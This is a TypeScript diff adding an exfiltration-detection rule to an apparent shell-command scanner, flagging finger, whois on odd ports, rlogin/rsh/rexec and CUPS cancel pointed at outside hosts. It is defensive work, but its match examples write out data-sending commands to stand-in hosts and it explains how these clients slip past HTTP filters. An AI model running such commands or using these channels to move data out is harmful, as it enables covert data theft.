@@ -85,7 +85,45 @@ function passphraseEncrypts(c: ShellCommand): boolean {
   }
 }
 
+/** True when a legacy protocol client is pointed at a host as a raw channel: finger(1)
+ * `user@host` (the user part travels, the answer comes back), whois(1) `-h HOST -p PORT` on a port
+ * other than 43, rlogin/rsh/rexec to a host, CUPS cancel(1) `-h HOST:PORT` (its `-u` text is sent). */
+export function legacyChannel(c: ShellCommand): boolean {
+  const args = c.argv.slice(1);
+  switch (c.name) {
+    case 'finger':
+      return args.some((a) => /^[^@\s]*@[\w.-]+\.[\w-]+$/.test(a) && !isLoopbackHost(a.split('@')[1]!.toLowerCase()));
+    case 'whois': {
+      const host = args[args.indexOf('-h') + 1];
+      const port = args[args.indexOf('-p') + 1];
+      return args.includes('-h') && args.includes('-p') && port !== '43' && host !== undefined && !isLoopbackHost(host.toLowerCase());
+    }
+    case 'rlogin':
+    case 'rsh':
+    case 'rexec':
+      return args.some((a) => !a.startsWith('-') && /[\w-]\.[\w-]/.test(a));
+    case 'cancel':
+      return args.some((a, i) => args[i - 1] === '-h' && /:\d+$/.test(a) && !isLoopbackHost(a.replace(/:\d+$/, '').toLowerCase()));
+    default:
+      return false;
+  }
+}
+
 export const EXFIL_RULES: Rule[] = [
+  {
+    id: 'legacy-protocol-channel',
+    name: 'Legacy protocol client used as a channel',
+    category: 'exfiltration',
+    action: 'record',
+    attack: 'T1048',
+    description: 'A legacy protocol client pointed at a host to carry data either way: finger user@host, whois -h HOST -p PORT on a port other than 43, rlogin/rsh/rexec to a host, cancel -h HOST:PORT.',
+    help: 'These clients send what they are given and print what comes back, past filters that watch HTTP. Check the host and the data.',
+    examples: {
+      match: ['finger x@x.example', 'whois -h x.example -p 8443 data', 'rlogin -l x -p 12345 x.example'],
+      not_match: ['whois example.com', 'finger', 'whois -h whois.radb.net AS15169'],
+    },
+    match: { command: legacyChannel },
+  },
   {
     id: 'passphrase-archive',
     name: 'Data packed or encrypted under a passphrase',
